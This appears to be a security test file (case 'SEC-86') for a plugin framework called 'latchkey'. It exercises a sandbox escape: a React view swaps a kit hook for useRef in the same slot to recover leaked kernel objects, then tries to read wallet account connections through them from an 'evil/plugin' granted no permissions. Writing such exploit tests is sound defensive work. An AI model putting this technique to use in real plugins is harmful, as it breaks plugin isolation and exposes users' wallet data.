import { createElement, useEffect, useRef, useState } from 'react'
import { accountActions, connectionsStore } from 'latchkey/kernel'
import { useContributions } from 'latchkey/ui'
import { page, settled, viewer } from './world.mjs'

export const row = 'SEC-86'

/**
 * Its view calls a hook of the kit in its first drawing, and in the second `useRef` in the same place: React hands out
 * what the hook kept there, a kernel among it.
 */
export async function attack() {
  const found = []
  const look = (value, depth = 0) => {
    if (typeof value !== 'object' || value === null || depth > 3) return
    if (Array.isArray(value)) {
      for (const one of value) look(one, depth + 1)
      return
    }
    if (typeof value.store === 'function') found.push(value)
  }
  const View = () => {
    const [round, setRound] = useState(0)
    useEffect(() => {
      if (round === 0) setRound(1)
    }, [round])
    if (round === 0) useContributions(accountActions)
    else for (let place = 0; place < 3; place += 1) look(useRef())
    return createElement('p', null, `nice ${round}`)
  }
  const { draw } = await page({ plugins: [viewer(View)], grants: { 'evil/plugin': [] } })
  await draw()
  await settled(30)
  const reads = (kernel) => {
    try {
      return JSON.stringify(kernel.store(connectionsStore).getSnapshot().namespaces.eip155)
    } catch {
      return undefined
    }
  }
  const kernels = found.flatMap((kernel) => [
    kernel,
    kernel.whole,
    kernel.speaker,
    kernel.forPlugin?.('io.visitor.wallet'),
    kernel.forPlugin?.('shell'),
  ])
  const accounts = kernels.filter(Boolean).map(reads).find(Boolean)
  if (accounts) return `the connections: ${accounts.slice(0, 200)}`
  const led = found.find((kernel) => kernel.card?.() || kernel.unveiled || kernel.limit)
  return led ? 'what stands behind its kernel' : undefined
}
